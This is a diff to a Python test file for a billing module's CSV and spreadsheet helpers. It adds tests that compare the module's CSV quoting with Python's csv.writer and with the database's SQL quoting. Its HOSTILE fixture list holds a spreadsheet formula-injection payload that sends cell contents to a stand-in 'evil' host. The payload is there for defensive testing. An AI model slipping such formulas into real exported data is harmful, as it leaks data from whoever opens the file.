@@ -2,12 +2,14 @@
 
 from __future__ import annotations
 
+import csv
+import io
 from typing import Any
 
 import pytest
 from sqlalchemy import String, literal, literal_column, select, union_all
 
-from billing.cells import guard_sql, spreadsheet_text
+from billing.cells import csv_field, csv_line, guard_sql, quoted_sql, spreadsheet_text
 
 HOSTILE = [
     '=HYPERLINK("http://evil/?"&A1,"x")',
@@ -78,3 +80,30 @@ async def test_the_sql_rendering_is_the_same_rule(db):
         query: Any = select(literal_column(rendered_sql)).select_from(table).order_by(table.c.n)
         rendered = (await conn.execute(query)).scalars().all()
     assert rendered == [spreadsheet_text(v) for v in texts]
+
+
+QUOTING = ["plain", "a,b", "a;b", 'say "hi"', "two\nlines", "cr\rhere", "", " padded ", "'quoted'"]
+
+
+@pytest.mark.parametrize("delimiter", [",", ";"])
+def test_csv_fields_are_quoted_as_csv_writer_quotes_them(delimiter):
+    """csv_line writes exactly what Python's csv.writer writes for the same fields."""
+    expected = io.StringIO()
+    csv.writer(expected, delimiter=delimiter, lineterminator="\r\n").writerow(QUOTING)
+    assert csv_line(QUOTING, delimiter) == expected.getvalue()
+
+
+async def test_the_sql_quoting_is_the_same_rule(db):
+    """The database quotes a text cell exactly as csv_field does."""
+    table = union_all(
+        *[
+            select(literal(n).label("n"), literal(v, String).label("v"))
+            for n, v in enumerate(QUOTING)
+        ]
+    ).subquery("t")
+    async with db.read() as session:
+        conn = await session.connection()
+        rendered_sql = quoted_sql("t.v", "t.v", ",", conn.dialect.name)
+        query: Any = select(literal_column(rendered_sql)).select_from(table).order_by(table.c.n)
+        rendered = (await conn.execute(query)).scalars().all()
+    assert rendered == [csv_field(v, ",") for v in QUOTING]
